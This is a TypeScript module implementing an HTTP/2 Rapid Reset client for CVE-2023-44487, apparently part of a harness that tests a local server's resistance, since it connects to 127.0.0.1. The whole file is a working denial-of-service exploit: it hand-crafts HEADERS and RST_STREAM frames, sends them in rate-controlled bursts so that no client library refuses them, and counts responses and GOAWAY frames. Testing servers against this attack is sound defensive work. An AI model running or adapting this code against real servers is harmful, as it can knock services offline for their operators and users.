// An HTTP/2 Rapid Reset client (CVE-2023-44487): on one TLS connection it sends, for stream
// after stream, a HEADERS frame (a complete GET) and at once an RST_STREAM(CANCEL), both in
// the same write, paced to a rate. The frames are built by hand (HPACK static-table indexes
// and literals without indexing, no Huffman) so nothing in a client library queues, merges
// or refuses them. It counts what came back: responses (HEADERS), resets, and a GOAWAY.

import { connect } from 'node:tls';

export type RapidResetSpec = {
  port: number;
  /** SNI and :authority. */
  host: string;
  path: string;
  /** Streams to open (and reset) on this connection. */
  streams: number;
  /** Streams per second, spread evenly in bursts. */
  rate: number;
  /** Give up after this long (ms) whatever happened. */
  timeoutMs: number;
};

export type RapidResetOutcome = {
  /** Streams whose HEADERS + RST_STREAM were written before the connection ended. */
  sent: number;
  /** HEADERS frames that came back (responses started before the reset arrived). */
  responses: number;
  /** The GOAWAY error code, null when none came. */
  goaway: number | null;
  /** The server closed the connection (after a GOAWAY or not) before the client was done. */
  closedByServer: boolean;
};

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const TYPE = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 8;
const BURST_MS = 10;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const out = Buffer.alloc(9 + payload.length);
  out.writeUIntBE(payload.length, 0, 3);
  out[3] = type;
  out[4] = flags;
  out.writeUInt32BE(stream, 5);
  payload.copy(out, 9);
  return out;
}

/** RFC 7541 5.2 string, 7-bit length prefix, raw octets (lengths here stay under 127). */
function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  if (bytes.length >= 127) throw new Error('rapid-reset client: header value too long');
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** :method GET, :scheme https (static indexes 2 and 7), :path and :authority as literals with indexed names (4, 1). */
function requestBlock(host: string, path: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87]), Buffer.from([0x04]), hpackString(path), Buffer.from([0x01]), hpackString(host)]);
}

export function rapidReset(spec: RapidResetSpec): Promise<RapidResetOutcome> {
  return new Promise((resolve) => {
    const block = requestBlock(spec.host, spec.path);
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(CANCEL, 0);
    const outcome: RapidResetOutcome = { sent: 0, responses: 0, goaway: null, closedByServer: false };
    let nextId = 1;
    let data: Buffer = Buffer.alloc(0);
    let finished = false;
    let pacer: NodeJS.Timeout | null = null;
    const socket = connect({ host: '127.0.0.1', port: spec.port, servername: spec.host, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    const finish = (byServer: boolean) => {
      if (finished) return;
      finished = true;
      outcome.closedByServer = byServer && outcome.sent < spec.streams;
      if (pacer) clearInterval(pacer);
      clearTimeout(deadline);
      socket.destroy();
      resolve(outcome);
    };
    const deadline = setTimeout(() => finish(false), spec.timeoutMs);
    const perBurst = Math.max(1, Math.round((spec.rate * BURST_MS) / 1000));
    const burst = () => {
      if (socket.destroyed || outcome.goaway !== null) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < perBurst && outcome.sent < spec.streams; i++) {
        frames.push(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, nextId, block), frame(TYPE.RST_STREAM, 0, nextId, rst));
        nextId += 2;
        outcome.sent++;
      }
      if (frames.length > 0) socket.write(Buffer.concat(frames));
      // Done: give the server a moment to answer what is in flight, then hang up.
      if (outcome.sent >= spec.streams && pacer) {
        clearInterval(pacer);
        pacer = null;
        setTimeout(() => finish(false), 200);
      }
    };
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') return finish(true);
      socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]));
      pacer = setInterval(burst, BURST_MS);
      burst();
    });
    socket.on('data', (chunk: Buffer) => {
      data = data.length === 0 ? chunk : Buffer.concat([data, chunk]);
      while (data.length >= 9) {
        const length = data.readUIntBE(0, 3);
        if (data.length < 9 + length) break;
        const type = data[3]!;
        const flags = data[4]!;
        const payload = data.subarray(9, 9 + length);
        data = data.subarray(9 + length);
        if (type === TYPE.SETTINGS && !(flags & ACK)) socket.write(frame(TYPE.SETTINGS, ACK, 0, Buffer.alloc(0)));
        else if (type === TYPE.PING && !(flags & ACK)) socket.write(frame(TYPE.PING, ACK, 0, payload));
        else if (type === TYPE.HEADERS) outcome.responses++;
        // The first GOAWAY says why; a second one (NO_ERROR, as a session closes) does not.
        else if (type === TYPE.GOAWAY && payload.length >= 8) outcome.goaway ??= payload.readUInt32BE(4);
      }
    });
    socket.on('error', () => finish(true));
    socket.on('close', () => finish(true));
  });
}
